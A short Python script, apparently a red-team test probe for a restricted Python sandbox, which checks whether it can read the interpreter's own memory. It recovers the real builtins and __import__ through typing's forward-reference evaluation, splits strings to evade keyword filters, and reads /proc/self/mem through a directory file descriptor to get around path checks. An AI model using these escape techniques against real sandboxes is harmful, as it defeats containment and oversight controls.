# fs: /proc/self/mem through dir_fd: read this interpreter's own memory at id(bytes)+32
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one
o = imp("o" + "s")  # already loaded: no audit event

canary = b"red-team-canary-" + bytes(range(48, 58))
try:
    root = o.open("/", o.O_RDONLY)
    fd = o.open("proc/self/mem", o.O_RDONLY, dir_fd=root)
    got = o.pread(fd, len(canary), id(canary) + 32)
    if got == canary:
        print(M, "read own memory:", got)
except Exception as e:
    print("refused:", type(e).__name__, e)
